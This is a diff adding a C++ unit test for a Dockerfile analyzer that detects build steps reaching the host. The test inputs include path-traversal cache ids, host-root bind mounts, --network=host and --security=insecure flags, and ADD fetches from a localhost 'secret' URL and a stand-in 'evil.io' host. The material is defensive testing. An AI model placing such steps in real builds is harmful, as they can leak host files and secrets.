@@ -127,6 +127,34 @@ TEST(Dockerfile, CopyAddAndMountFrom) {
   EXPECT_EQ(images("FROM a\nCOPY -- --from=evil.io/x /b\n"), (V{"1 FROM a"}));
 }
 
+// Steps that reach the build host, each "LINE STEP", in every reading.
+V host_reach(std::string_view text) {
+  V out;
+  for (const DockerfileHostReach& r : dockerfile_images(text).host_reach) out.push_back(std::to_string(r.line) + " " + r.step);
+  return out;
+}
+
+TEST(Dockerfile, StepsThatReachTheBuildHost) {
+  // QA-32: a cache id or a bind source that buildah 4.3 resolves on the host.
+  EXPECT_EQ(host_reach("FROM a\nRUN --mount=type=cache,id=../../../../tmp/x,target=/c true\n"),
+            (V{"2 RUN --mount=type=cache,id=../../../../tmp/x,target=/c"}));
+  EXPECT_EQ(host_reach("FROM a\nRUN --network=host --security=insecure true\nRUN --Mount=type=tmpfs,target=/t x\n"),
+            (V{"2 RUN --network=host", "2 RUN --security=insecure", "3 RUN --Mount=type=tmpfs,target=/t"}));
+  // ADD fetches URLs and git repositories on the host's network.
+  EXPECT_EQ(host_reach("FROM a\nADD http://127.0.0.1:8765/secret /s\nADD [\"https://x.io/a\", \"/b\"]\n"
+                       "ADD git@github.com:o/r.git /r\nADD --chown=1 local.tgz /opt/\n"),
+            (V{"2 ADD http://127.0.0.1:8765/secret /s", "3 ADD [\"https://x.io/a\", \"/b\"]",
+               "4 ADD git@github.com:o/r.git /r"}));
+  // Continuations, ONBUILD and heredoc bodies read as instructions by podman.
+  EXPECT_EQ(host_reach("FROM a\nRUN \\\n --mount=type=bind,source=/,target=/h true\nONBUILD RUN --mount=type=ssh x\n"
+                       "RUN <<EOF\nADD https://evil.io/p /p\nEOF\n"),
+            (V{"2 RUN --mount=type=bind,source=/,target=/h", "4 ONBUILD RUN --mount=type=ssh", "6 ADD https://evil.io/p /p"}));
+  // What stays inside the build: none.
+  EXPECT_EQ(host_reach("FROM a\nRUN --network=none true\nRUN echo --mount=x\nCOPY --from=a /x /y\nADD f.tgz /o/\n"
+                       "COPY http://x /y\n"),
+            V{});
+}
+
 TEST(Dockerfile, OnbuildNamesImagesOfLaterBuilds) {
   EXPECT_EQ(images("FROM a AS b\nONBUILD COPY --from=b /x /y\nONBUILD RUN --mount=from=evil.io/m true\n"),
             (V{"1 FROM a", "2 ONBUILD COPY --from b", "3 ONBUILD RUN --mount from evil.io/m"}));
